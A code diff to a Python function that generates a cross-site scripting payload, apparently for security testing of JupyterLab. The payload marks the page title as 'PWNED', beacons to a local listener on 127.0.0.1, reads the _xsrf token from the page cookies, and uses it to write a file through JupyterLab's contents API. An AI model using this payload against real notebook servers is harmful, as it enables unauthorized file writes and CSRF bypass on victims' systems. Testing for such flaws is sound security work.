@@ -22,9 +22,11 @@ def script(name: str, port: int) -> str:
     """JavaScript without spaces or double quotes (it must fit an unquoted attribute too)."""
     return ("document.title='PWNED-" + name + "';"
             "new/**/Image().src='http://127.0.0.1:" + str(port) + "/hit/" + name + "';"
-            "fetch('/api/contents/pwned-" + name + ".txt',{method:'PUT',headers:{'Content-Type':"
-            "'application/json','X-XSRFToken':(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||''},"
-            "body:JSON.stringify({type:'file',format:'text',content:'" + name + "'})})")
+            # a page of JupyterLab sets the _xsrf cookie that writing needs
+            "fetch('/lab').then(()=>fetch('/api/contents/pwned-" + name + ".txt',{method:'PUT',headers:"
+            "{'Content-Type':'application/json','X-XSRFToken':(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]"
+            "||''},body:JSON.stringify({type:'file',format:'text',content:'" + name + "'})}))"
+            ".then(r=>r.status)")
 
 
 def _b64(text: str) -> str:
